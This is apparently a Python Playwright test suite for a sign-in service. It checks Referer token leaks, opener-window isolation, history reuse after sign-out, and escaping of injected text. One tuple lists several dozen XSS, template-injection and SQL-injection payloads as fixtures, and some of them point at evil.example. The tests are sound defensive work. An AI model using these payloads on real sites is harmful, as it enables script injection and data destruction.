"""What other pages, other people and texts that want to be scripts get out of ours, in a browser (B5, B6, B7, B15)."""

import itertools
import re

import pytest
from playwright.async_api import Browser, Request, expect

from admitone.flows import sessions
from admitone.flows.media import lists
from admitone.flows.media.lists import NewList
from admitone.model.faults import Fault
from tests.browser.stage import Stage
from tests.browser.tab import Tab
from tests.store.aside import fault_of
from tests.threats.sizes import size
from tests.world import NETWORK

CALLBACK = "https://paperboy.example/back"
# Which database there is has no say in what a browser sends.
ONE_ENGINE = pytest.mark.parametrize("stage", ["sqlite"], indirect=True)
ID = re.compile(r"[0-9a-f]{40}")


@pytest.mark.holds("B6", "ASVS 3.4.5")
@ONE_ENGINE
async def test_no_request_tells_another_host_of_a_token(tab: Tab, stage: Stage) -> None:
    sent: list[Request] = []
    tab.context.on("request", lambda request: _note(sent, request))
    listed, unlisted = stage.app("", CALLBACK), stage.app()
    await tab.ask(stage.token(listed), CALLBACK)  # to sign in
    await tab.sign_in()
    for button in ("Approve", "Deny"):
        await tab.ask(stage.token(listed), CALLBACK)
        await tab.press(button)
        await tab.sees("Back in the app")
    await tab.ask(stage.token(unlisted), "https://elsewhere.example/cb")
    await tab.press("Approve")
    await tab.page.get_by_role("link", name="Continue to elsewhere.example").click()
    await tab.sees("Back in the app")
    for ending in ("", "/allow", "/deny"):
        await tab.page.goto(f"/authenticate/{stage.token(unlisted)}{ending}")
        for link in await tab.page.locator("a[href]").all():
            address = str(await link.get_attribute("href"))
            assert address.startswith(("/", "#")), address  # nothing on it leads anywhere else
    assert await leaks(sent) == []
    assert len([request for request in sent if ".example" in request.url]) >= 3
    # And that this would have been seen:
    await tab.page.goto(f"{CALLBACK}?request_token={stage.token(listed)}")
    await tab.page.evaluate(
        "() => fetch('https://tracker.example/x', { mode: 'no-cors', referrerPolicy: 'unsafe-url' })"
    )
    assert await leaks(sent) != []


def _note(sent: list[Request], request: Request) -> None:
    sent.append(request)


async def leaks(sent: list[Request]) -> list[str]:
    """Where a page told another host by Referer of an id."""
    found = []
    for request in sent:
        referrer = (await request.all_headers()).get("referer", "")
        if ID.search(referrer) and request.url.split("/")[2] != referrer.split("/")[2]:
            found.append(request.url)
    return found


@pytest.mark.holds("B7", "F10")
async def test_what_a_shared_browser_remembers_is_worth_nothing(tab: Tab, stage: Stage) -> None:
    await tab.sign_in()
    app = stage.app()
    tokens = [stage.token(app) for _ in range(2)]
    for token, button in zip(tokens, ("Approve", "Deny"), strict=True):
        await tab.ask(token)
        await tab.press(button)
        await expect(tab.page.locator("h1")).to_contain_text(app.app.name)
    stage.run(stage.world.house.write(sessions.exchange, app.app.id, tokens[0], NETWORK))
    await tab.page.goto("/signout")
    await tab.page.get_by_role("button", name="Sign out").click()
    await tab.sees("You are signed out")
    cdp = await tab.context.new_cdp_session(tab.page)
    kept = [entry["url"] for entry in (await cdp.send("Page.getNavigationHistory"))["entries"]]
    told = [address for address in kept if ID.search(address)]
    assert told
    # Whoever comes next to this browser finds addresses, and nothing at them: signed out, and as somebody else.
    for who in ("", "tomas"):
        if who:
            await tab.sign_in(who)
        for address in dict.fromkeys(told):
            answer = await tab.page.goto(address)
            assert answer
            assert answer.status == 404
            await tab.sees("This request has expired")
    for token in tokens:
        again = sessions.exchange
        fault = stage.run(fault_of(stage.world.house.write(again, app.app.id, token, NETWORK)))
        assert fault in (Fault.TOKEN_SPENT, Fault.TOKEN_DENIED)
    # Nor does going back bring a page out of the browser's own memory.
    await tab.page.goto("/")
    for _ in range(len(told)):
        await tab.page.go_back()
        assert "Mira" not in await tab.page.locator("body").inner_text()


OPEN = """address => new Promise(resolve => {
    window.opened = window.open(address);
    setTimeout(() => resolve(true), 0);
})"""
# What a page learns of a window that it opened: whether it is still there, how many frames, and where it is.
SEEN = """() => {
    const seen = { closed: window.opened.closed, frames: window.opened.length };
    try { seen.address = window.opened.location.href; } catch (error) { seen.address = error.name; }
    try { seen.text = window.opened.document.body.innerText; } catch (error) { seen.text = error.name; }
    return seen;
}"""


@pytest.mark.holds("B15", "ASVS 3.4.8")
@ONE_ENGINE
async def test_whoever_opens_a_window_of_ours_sees_nothing_in_it(tab: Tab, stage: Stage) -> None:
    await tab.sign_in()
    token = stage.token(stage.app())
    own = ["/", "/signin", "/signup", "/account", "/account/apps", "/account/security", "/help", "/nowhere"]
    for path in (*own, f"/authenticate/{token}", "/authenticate/allow"):
        await tab.page.goto("https://opener.example/")
        async with tab.page.expect_popup() as opened:
            await tab.page.evaluate(OPEN, stage.url + path)
        popup = await opened.value
        await popup.wait_for_load_state()
        await expect(popup.locator("h1")).to_be_visible()
        seen = await tab.page.evaluate(SEEN)
        if path in own:
            # The window is another's for good: it knows no opener, and its opener has nothing but a closed one.
            assert await popup.evaluate("() => window.opener") is None, path
            assert seen == {"closed": True, "frames": 0, "address": seen["address"], "text": seen["text"]}, path
        else:
            # An app waits for the end of its pop-up; it sees that it is open, and no more.
            assert seen == {"closed": False, "frames": 0, "address": "SecurityError", "text": "SecurityError"}, path
        await popup.close()


@pytest.mark.holds("B15")
@ONE_ENGINE
async def test_no_page_has_frames_to_be_counted_or_opens_windows(tab: Tab, stage: Stage) -> None:
    for signed_in in (False, True):
        if signed_in:
            await tab.sign_in()
        for path in ("/", "/signin", "/forgot", "/account", f"/authenticate/{stage.token(stage.app())}"):
            await tab.page.goto(path)
            assert await tab.page.evaluate("() => [window.length, document.querySelectorAll('[target]').length]") == [
                0,
                0,
            ]


SCRIPTS = (
    "<script>alert(1)</script>", "<img src=x onerror=alert(1)>", "<svg/onload=alert(1)>",
    "<svg><script>alert(1)</script>",
    "<iframe src=javascript:alert(1)>", "<a href=javascript:alert(1)>x</a>",
    "<math><mtext></form><img src onerror=alert(1)>",
    "<details open ontoggle=alert(1)>", "<input autofocus onfocus=alert(1)>", "<body onload=alert(1)>",
    "<base href=//evil.example>",
    "<style>*{color:red}</style>", "<link rel=stylesheet href=//evil.example>",
    "<meta http-equiv=refresh content=0;//evil.example>",
    "<form action=//evil.example><button>x", "<object data=javascript:alert(1)>", "<embed src=javascript:alert(1)>",
    "<!--", "-->",
    "<![CDATA[<img>]]>", "<?xml?>", "&lt;b&gt;", "&#60;b&#62;", "&amp;lt;", "{{7*7}}", "{%raw%}", "${7*7}",
    "#{7*7}", "<%=7*7%>",
    "javascript:alert(1)", "data:text/html,<b>", "'-alert(1)-'", '"-alert(1)-"', "\\u003cb\\u003e", "%3Cscript%3E",
    "`${alert(1)}`",
    "'; DROP TABLE lists; --", '" onmouseover="alert(1)', "' onfocus='alert(1)",
    "</title><script>alert(1)</script>", "</li></ul>",
    "</textarea><b>", "<x:script xmlns:x='http://www.w3.org/1999/xhtml'>alert(1)</x:script>",
    "<noscript><p title='</noscript><b>'>",
)  # fmt: skip
AROUND = (
    "{}", "a{}", "{}b", '"{}', "'{}", ">{}", '">{}', "'>{}", "{}<", "{}//", "{0} {0}", "<{}", "x{}y", "={}", " {} é",
    "\N{HEBREW LETTER ALEF}{}",
)  # fmt: skip
SHOWN = 50  # characters at least, of a long name
TEXTS = tuple(dict.fromkeys(around.format(text) for text, around in itertools.product(SCRIPTS, AROUND)))


@pytest.mark.holds("B5", "ASVS 3.2.2")
async def test_seven_hundred_texts_are_shown_as_they_are(tab: Tab, stage: Stage) -> None:
    """Names of lists, as an app writes them; a dialog or a broken policy fails the tab when it closes."""
    assert len(TEXTS) >= 680
    many = size(len(TEXTS), 160)
    texts = [TEXTS[number * len(TEXTS) // many] for number in range(many)]
    app, world = stage.app(), stage.world
    stage.run(world.session(app, world.mira))
    for text in texts:
        stage.run(world.house.write(lists.create, world.mira.id, app.app.id, NewList(text, text, "en", True)))
        stage.clock.advance(30_000)
    await tab.sign_in()
    shown: list[str] = []
    number = 1
    while len(shown) < many:
        await tab.page.goto(f"/account/apps/{app.app.public_id}/changes?page={number}")
        rows: list[str] = await tab.page.locator(".log .m").evaluate_all("rows => rows.map(row => row.textContent)")
        assert rows
        shown += rows
        elements = (
            "() => document.querySelectorAll('img, iframe, object, embed, style, base, form.x, math, details').length"
        )
        assert await tab.page.evaluate(elements) == 0
        number += 1
    kept = [" ".join(row.split()) for row in reversed(shown)]
    assert len(kept) == many
    for text, row in zip(texts, kept, strict=True):
        assert " ".join(text.split())[:SHOWN] in row


async def test_a_page_with_a_script_would_have_been_noticed(chromium: Browser, stage: Stage) -> None:
    tab = await Tab.open_in(chromium, stage)
    await tab.page.goto("/")
    async with tab.page.expect_console_message():
        await tab.page.evaluate(
            "() => { document.body.insertAdjacentHTML('beforeend', '<img src=x onerror=alert(1)>') }"
        )
    with pytest.raises(AssertionError):
        await tab.close()
